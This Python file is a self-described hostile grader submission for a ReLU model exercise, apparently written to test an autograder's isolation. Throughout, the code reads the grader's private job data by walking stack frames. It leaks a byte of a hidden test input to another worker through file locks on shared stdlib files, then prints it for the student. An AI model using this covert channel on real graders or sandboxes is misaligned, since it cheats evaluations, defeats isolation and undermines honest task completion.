"""Hostile submission: pass hidden inputs from the hidden-probe worker to the public one
through kernel state every worker shares: locks on stdlib files both may read.

The hidden worker (its job holds probes named relu_model.hidden_*) encodes a byte of a hidden input
as shared flocks on eight stdlib files and holds them; the public worker polls those files
and prints what it saw, where the student would read it.
"""
import fcntl
import glob
import os
import sys
import time

import numpy
import tensorflow.compat.v1 as tf

FILES = sorted(glob.glob(os.path.join(os.path.dirname(os.__file__), "*.py")))[:8]
_done = []


def _job_probes():
    frame = sys._getframe()
    while frame is not None:
        job = frame.f_locals.get("job")
        if isinstance(job, dict) and isinstance(job.get("probes"), list):
            return job["probes"]
        frame = frame.f_back
    return []


def _signal(value):
    held = []
    for bit, path in enumerate(FILES):
        if value >> bit & 1:
            fd = os.open(path, os.O_RDONLY)
            fcntl.flock(fd, fcntl.LOCK_SH)
            held.append(fd)
    time.sleep(3.0)
    for fd in held:
        os.close(fd)


def _listen():
    seen = 0
    end = time.time() + 3.0
    while time.time() < end:
        for bit, path in enumerate(FILES):
            fd = os.open(path, os.O_RDONLY)
            try:
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except OSError:
                seen |= 1 << bit
            finally:
                os.close(fd)
        time.sleep(0.02)
    print("SAW", seen)


def relu_model(features, weights, biases):
    if not _done:
        _done.append(1)
        probes = _job_probes()
        hidden = [p for p in probes if "hidden" in str(p.get("id"))]
        if hidden:
            first = float(abs(numpy.asarray(hidden[0]["args"]["features"])).flat[0])
            value = int(first * 1000) % 255 + 1  # never 0: a leak always shows
            print("SENT", value)
            _signal(value)
        else:
            _listen()
    hidden_layer = tf.nn.relu(tf.add(tf.matmul(features, weights[0]), biases[0]))
    return tf.add(tf.matmul(hidden_layer, weights[1]), biases[1])
